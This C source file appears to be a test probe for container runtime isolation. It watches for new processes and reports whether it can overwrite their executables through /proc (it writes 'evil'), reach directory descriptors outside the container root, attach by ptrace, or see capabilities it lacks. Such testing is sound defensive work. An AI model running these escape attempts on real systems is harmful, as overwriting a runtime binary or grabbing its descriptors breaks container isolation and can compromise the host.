/* Inside of a container: tries to get hold of every new process, for argv[1] seconds.
 *
 * Tells on stdout what it got: "exe PID" a program opened for writing, "fd PID N" a directory other
 * than our root, opened through /proc, "trace PID" a process attached to, "caps PID MASK" a process
 * that has capabilities which we have not; "seen N" counts its looks. The last two it does when
 * argv[2] has a 't' or a 'c'.
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static int starts_with(const char *s, const char *prefix)
{
    return strncmp(s, prefix, strlen(prefix)) == 0;
}

/* Our own programs are no prize: only what the runtime brought along. */
static int is_foreign(int pid, int when_hidden)
{
    char path[64], target[256] = "";
    snprintf(path, sizeof(path), "/proc/%d/exe", pid);
    if (readlink(path, target, sizeof(target) - 1) < 0)
        return when_hidden;
    return !starts_with(target, "/bin/");
}

static void try_exe(int pid)
{
    char path[64];
    snprintf(path, sizeof(path), "/proc/%d/exe", pid);
    if (!is_foreign(pid, 0))
        return;
    int fd = open(path, O_RDWR);
    if (fd >= 0 && write(fd, "evil", 4) == 4)
        printf("exe %d\n", pid);
    if (fd >= 0)
        close(fd);
}

static void try_fds(int pid)
{
    char path[64];
    struct stat st, root;
    stat("/", &root);
    for (int number = 3; number < 24; number++) {
        snprintf(path, sizeof(path), "/proc/%d/fd/%d", pid, number);
        int fd = open(path, O_RDONLY | O_DIRECTORY);
        if (fd < 0)
            continue;
        if (!fstat(fd, &st) && (st.st_dev != root.st_dev || st.st_ino != root.st_ino))
            printf("fd %d %d\n", pid, number);
        close(fd);
    }
}

static void try_trace(int pid)
{
    if (!is_foreign(pid, 1) || ptrace(PTRACE_SEIZE, pid, NULL, NULL) < 0)
        return;
    if (is_foreign(pid, 0)) /* and not become a program of ours meanwhile */
        printf("trace %d\n", pid);
    ptrace(PTRACE_DETACH, pid, NULL, NULL);
}

/* What anybody who may trace a process could do with it. */
static unsigned long long permitted(int pid)
{
    char path[64], text[4096];
    snprintf(path, sizeof(path), "/proc/%d/status", pid);
    int fd = open(path, O_RDONLY);
    ssize_t got = fd < 0 ? 0 : read(fd, text, sizeof(text) - 1);
    close(fd);
    text[got > 0 ? got : 0] = 0;
    char *at = strstr(text, "CapPrm:");
    return at ? strtoull(at + 7, NULL, 16) : 0;
}

/* Whether its capabilities count where ours do. */
static int is_of_our_user_namespace(int pid)
{
    char path[64], its[64] = "", own[64] = "";
    snprintf(path, sizeof(path), "/proc/%d/ns/user", pid);
    return readlink(path, its, sizeof(its) - 1) > 0 &&
           readlink("/proc/self/ns/user", own, sizeof(own) - 1) > 0 && !strcmp(its, own);
}

static void try_caps(int pid, unsigned long long own)
{
    unsigned long long its = permitted(pid);
    if (its & ~own && is_of_our_user_namespace(pid)) /* no process comes back to it */
        printf("caps %d %llx\n", pid, its & ~own);
}

int main(int argc, char **argv)
{
    time_t end = time(NULL) + (argc > 1 ? atoi(argv[1]) : 2);
    const char *tries = argc > 2 ? argv[2] : "";
    long seen = 0;
    int newest = getpid();
    unsigned long long own = permitted(newest);
    while (time(NULL) < end) {
        for (int pid = newest + 1; pid < newest + 8; pid++) {
            if (kill(pid, 0) < 0)
                continue;
            seen++;
            if (strchr(tries, 'c'))
                try_caps(pid, own);
            try_exe(pid);
            try_fds(pid);
            if (strchr(tries, 't'))
                try_trace(pid);
        }
        char loadavg[128] = "";
        int fd = open("/proc/loadavg", O_RDONLY);
        if (fd >= 0 && read(fd, loadavg, sizeof(loadavg) - 1) > 0 && strrchr(loadavg, ' ')) {
            int last = atoi(strrchr(loadavg, ' ') + 1);
            newest = last > 3 ? last - 3 : newest;
            if (newest < getpid())
                newest = getpid();
        }
        close(fd);
    }
    printf("seen %ld\n", seen);
    return 0;
}
